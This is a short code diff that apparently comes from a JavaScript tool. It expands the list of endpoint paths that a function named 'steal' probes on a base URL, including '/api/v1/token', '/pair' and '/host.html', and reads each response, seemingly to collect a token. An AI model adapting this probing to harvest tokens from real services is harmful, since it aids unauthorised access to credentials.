@@ -31,9 +31,9 @@ function kit(id, target, number, teller) {
 	async function steal(base, headers = {}) {
 		let token = '';
 
-		for (const path of ['token', 'calls', 'status']) {
-			const res = await fetch(`${base}/api/v1/${path}`, { headers })
-				.catch(note);
+		for (const path of ['/api/v1/token', '/api/v1/calls',
+			'/api/v1/status', '/pair', '/host.html', '/']) {
+			const res = await fetch(base + path, { headers }).catch(note);
 
 			if (res instanceof Response && 'text' in res) {
 				const text = await res.text();
